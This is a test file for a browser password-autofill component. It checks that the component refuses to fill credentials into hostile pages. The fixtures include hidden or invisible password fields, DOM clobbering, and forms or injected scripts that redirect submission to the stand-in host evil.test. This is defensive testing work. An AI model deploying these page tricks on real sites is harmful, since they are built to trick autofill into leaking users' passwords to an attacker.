import { afterAll, beforeAll, describe, expect, it } from "vitest";
import type { CdpClient } from "../../../src/sign-in/cdp/client";
import {
  type Bench,
  CANARY,
  evaluate,
  form,
  formBody,
  hasChromium,
  LOGIN,
  openBench,
  type Ran,
  run,
  showForm,
  type Wanted,
  WELCOME,
} from "./harness";
import type { Site } from "./site";

const USER = `<label>User name <input name="user"></label>`;
const PASS = `<label>Password <input name="pass" type="password"></label>`;
const GO = "<button>Log in</button>";
describe.skipIf(!hasChromium())("signIn", () => {
  let site: Site;
  let browser: Bench["browser"];
  let client: CdpClient;
  let close: Bench["close"];
  beforeAll(async () => {
    ({ site, browser, client, close } = await openBench());
  });
  afterAll(() => close());
  const show = (page: string, place?: string) => showForm({ client, site }, page, place);
  const on = async (page: string, { request, ...wanted }: Wanted = {}, place?: string): Promise<Ran> =>
    run(browser.url, await show(page, place), { ...wanted, request: { mode: "fill", ...request } });
  const sent = () => site.posts().map(({ host, path, body }) => [`${host}${path}`, formBody(body)]);
  const frame = (url: string, more = "") =>
    `<!doctype html><h1>Sign in</h1><iframe src="${url}" width="400" height="300" ${more}></iframe>`;

  describe("asks for no value and writes nothing", () => {
    const late = (script: string) => `${LOGIN}<script>${script}</script>`;
    const refused: readonly (readonly [string, () => string, string, string?])[] = [
      ["on a host that is not listed", () => LOGIN, "host_not_allowed", "evil.test/login"],
      ["in a frame that is not listed", () => frame(site.url("evil.test/framed")), "host_not_allowed"],
      [
        "in a listed frame of a page that is not",
        () => frame(site.url("portal.test/framed")),
        "host_not_allowed",
        "evil.test/login",
      ],
      ["below a frame that is not listed", () => frame(site.url("evil.test/nest")), "ancestor_not_allowed"],
      [
        "in a sandboxed frame",
        () => frame(site.url("portal.test/framed"), `sandbox="allow-forms allow-scripts"`),
        "sandboxed_frame",
      ],
      [
        "in a frame that can't be seen",
        () => frame(site.url("portal.test/framed"), `style="opacity:0"`),
        "hidden_field_only",
      ],
      [
        "in a field of no size",
        () => form(`${USER}<input name="pass" type="password" style="width:0;height:0;padding:0;border:0">${GO}`),
        "hidden_field_only",
      ],
      ["in a transparent field", () => form(`${USER}<div style="opacity:0">${PASS}</div>${GO}`), "hidden_field_only"],
      [
        "in a field left of the page",
        () => form(`${USER}<div style="position:absolute;left:-999px">${PASS}</div>${GO}`),
        "hidden_field_only",
      ],
      [
        "in a field that is cut away",
        () => form(`${USER}<div style="height:0;overflow:hidden">${PASS}</div>${GO}`),
        "hidden_field_only",
      ],
      ["in a read-only field", () => form(`${USER}<input type="password" readonly>${GO}`), "hidden_field_only"],
      [
        "in a field that shows what is typed",
        () => form(`${USER}<input name="password">${GO}`),
        "not_a_password_field",
      ],
      [
        "in a registration",
        () =>
          form(
            `<input type="email" name="email">${PASS}<label>Repeat <input type="password"></label><button>Sign up</button>`,
          ),
        "looks_like_registration",
      ],
      ["with two forms that fit equally", () => LOGIN + LOGIN, "ambiguous_form"],
      [
        "where the form sends to another host",
        () => form(USER + PASS + GO, `method="post" action="${site.url("evil.test/in")}"`),
        "action_not_allowed",
      ],
      [
        "where the button sends to another host",
        () => form(`${USER}${PASS}<button formaction="${site.url("evil.test/in")}">Log in</button>`),
        "action_not_allowed",
      ],
      [
        "where a base address leads elsewhere",
        () => `<base href="${site.url("evil.test/")}">${LOGIN}`,
        "action_not_allowed",
      ],
      ["in a GET form", () => form(USER + PASS + GO, `method="get" action="/in"`), "action_not_allowed"],
      [
        "where a CAPTCHA is to be solved first",
        () =>
          form(
            `${USER}${PASS}<div class="g-recaptcha" data-sitekey="x" style="width:300px;height:80px">I am no robot</div>${GO}`,
          ),
        "challenge",
      ],
      ["on a page without a form", () => WELCOME, "no_login_form"],
    ];
    it.each(refused.map(([title, ...rest]) => ({ title, rest })))("$title", async ({ rest: [page, code, place] }) => {
      site.show("portal.test/framed", LOGIN);
      site.show("evil.test/framed", LOGIN);
      site.show("evil.test/nest", frame(site.url("portal.test/framed")));
      const { outcome, leases } = await on(page(), {}, place);
      expect([outcome.status, outcome.code, leases, outcome.steps, sent()]).toEqual(["failed", code, [], [], []]);
    });

    it("where fields hide the methods of the form", async () => {
      const clobbered = ["action", "getAttribute", "parentNode", "isConnected", "method", "contains"].map(
        (name) => `<input type="hidden" name="${name}" value="/in">`,
      );
      const { outcome, leases } = await on(
        form(USER + PASS + GO + clobbered.join(""), `method="post" action="${site.url("evil.test/in")}"`),
      );
      expect([outcome.code, leases]).toEqual(["action_not_allowed", []]);
    });

    it.each([
      ["hides its field", "document.querySelector('[name=pass]').style.display = 'none'"],
      ["makes its field plain", "document.querySelector('[name=pass]').type = 'text'"],
      ["sends its form elsewhere", "document.forms[0].action = 'https://evil.test/in'"],
      ["puts another form in its place", "document.forms[0].outerHTML = document.forms[0].outerHTML"],
      [
        "asks for a second password",
        "document.forms[0].append(Object.assign(document.createElement('input'), { type: 'password' }))",
      ],
    ])("into a page that %s between the judgement and the writing", async (_title, script) => {
      const targetId = await show(LOGIN);
      const lease = async () => {
        const { sessionId } = await client.send("Target.attachToTarget", { targetId, flatten: true });
        await client.send("Runtime.evaluate", { expression: script }, sessionId);
        return { ok: true as const, secrets: { username: "anna", password: CANARY, codeAt: null } };
      };
      const { outcome } = await run(browser.url, targetId, { request: { mode: "fill" }, ports: { lease } });
      expect(outcome.status).toBe("failed");
      expect(JSON.stringify(site.received)).not.toContain("c4nary");
    });

    it("into a page that has navigated between the judgement and the writing", async () => {
      const targetId = await show(LOGIN);
      site.show("evil.test/login", LOGIN);
      const lease = async () => {
        const { sessionId } = await client.send("Target.attachToTarget", { targetId, flatten: true });
        await client.send("Page.navigate", { url: site.url("evil.test/login") }, sessionId);
        return { ok: true as const, secrets: { username: "anna", password: CANARY, codeAt: null } };
      };
      const { outcome } = await run(browser.url, targetId, { request: { mode: "fill" }, ports: { lease } });
      expect([outcome.status, site.posts()]).toEqual(["failed", []]);
    });

    it("that stays, where an input handler moves the form elsewhere", async () => {
      const { outcome } = await on(
        late(
          `document.forms[0].addEventListener("input", (event) => { event.currentTarget.action = "https://evil.test/in"; });`,
        ),
      );
      expect([outcome.code, sent()]).toEqual(["action_not_allowed", []]);
    });
  });

  it("says of a refused form where that one stands, and not where another frame does", async () => {
    site.show("evil.test/ad", "<!doctype html><p>Buy</p>");
    site.show("frame.test/framed", LOGIN);
    const ad = `<iframe src="${site.url("evil.test/ad")}" width="400" height="300"></iframe>`;
    const told = async (page: string) => {
      const { code, details } = (await on(page)).outcome;
      return [code, details];
    };
    expect(await told(frame(site.url("frame.test/framed")).replace("<iframe", `${ad}<iframe`))).toEqual([
      "host_not_allowed",
      { host: "frame.test", reason: "not_listed" },
    ]);
    expect(await told(`<!doctype html><h1>Nothing</h1>${ad}`)).toEqual(["no_login_form", { host: "portal.test" }]);
  });

  it("writes no password once the user name's own handlers have made another field of the password's", async () => {
    const turned = `${LOGIN}<script>
      const [user, pass] = document.querySelectorAll("input");
      const seen = [];
      pass.addEventListener("input", () => seen.push(pass.value));
      user.addEventListener("input", () => { pass.type = "text"; });
    </script>`;
    const targetId = await show(turned);
    const { outcome } = await run(browser.url, targetId, { request: { mode: "fill" } });
    expect([outcome.code, await evaluate(client, targetId, "seen"), sent()]).toEqual(["not_a_password_field", [], []]);
  });

  describe("writes into the field it judged", () => {
    it("whatever a focus handler does", async () => {
      const jumpy = `${LOGIN}<input id="open"><script>
        addEventListener("focusin", (event) => { if (event.target.type === "password") document.getElementById("open").focus(); });
      </script>`;
      const { outcome } = await on(jumpy);
      expect([outcome.status, sent()]).toEqual(["authenticated", [["portal.test/in", { user: "anna", pass: CANARY }]]]);
    });

    it("and leaves it filled where nobody wants it sent", async () => {
      const { outcome } = await on(LOGIN, { request: { submit: false } });
      expect([outcome.status, outcome.verdict, sent()]).toEqual(["filled", null, []]);
      expect(outcome.steps).toEqual([
        { step: "username", outcome: "filled" },
        { step: "password", outcome: "filled" },
      ]);
    });

    it("in a listed frame of another site, in an open shadow root, and in a form that comes late", async () => {
      site.show("frame.test/in", WELCOME);
      site.show("frame.test/framed", LOGIN);
      const framed = await on(frame(site.url("frame.test/framed")), { allowed: ["portal.test", "frame.test"] });
      expect([framed.outcome.status, sent()]).toEqual([
        "authenticated",
        [["frame.test/in", { user: "anna", pass: CANARY }]],
      ]);
      const shadow = `<!doctype html><div id="host"></div><script>host.attachShadow({ mode: "open" }).innerHTML = ${JSON.stringify(form(USER + PASS + GO))};</script>`;
      expect([(await on(shadow)).outcome.status, sent()]).toEqual([
        "authenticated",
        [["portal.test/in", { user: "anna", pass: CANARY }]],
      ]);
      const slow = `<!doctype html><body><script>setTimeout(() => { document.body.innerHTML = ${JSON.stringify(form(USER + PASS + GO))}; }, 1500);</script>`;
      expect([(await on(slow)).outcome.status, sent()]).toEqual([
        "authenticated",
        [["portal.test/in", { user: "anna", pass: CANARY }]],
      ]);
    });

    it("of a form whose framework keeps the values and opens its button late", async () => {
      const kept = `${form(`${USER}${PASS}<button disabled>Log in</button>`)}<script>
        const state = {};
        for (const field of document.querySelectorAll("input")) {
          const own = Object.getOwnPropertyDescriptor(HTMLInputElement.prototype, "value");
          Object.defineProperty(field, "value", { get() { return own.get.call(this); }, set(v) { own.set.call(this, v); } });
          field.addEventListener("input", () => {
            state[field.name] = own.get.call(field);
            setTimeout(() => { document.querySelector("button").disabled = false; }, 400);
          });
        }
        document.forms[0].addEventListener("submit", async (event) => {
          event.preventDefault();
          await fetch("/in", { method: "POST", body: new URLSearchParams(state) });
          document.body.innerHTML = "<h1>Welcome</h1>";
        });
      </script>`;
      const { outcome } = await on(kept);
      expect([outcome.status, sent()]).toEqual(["authenticated", [["portal.test/in", { user: "anna", pass: CANARY }]]]);
    });

    it("that the caller's selectors name, and only with all checks", async () => {
      const two = `${form(USER + PASS + GO, `id="a" method="post" action="/a"`)}${form(USER + PASS + GO, `id="b" method="post" action="/in"`)}`;
      const selectors = { username: "#b [name=user]", password: "#b [name=pass]" };
      const named = await on(two, { request: { selectors } });
      expect([named.outcome.status, sent()]).toEqual([
        "authenticated",
        [["portal.test/in", { user: "anna", pass: CANARY }]],
      ]);
      const wrong = await on(two, { request: { selectors: { password: "#b [name=user]" } } });
      expect(wrong.outcome.code).toBe("not_a_password_field");
    });
  });
});
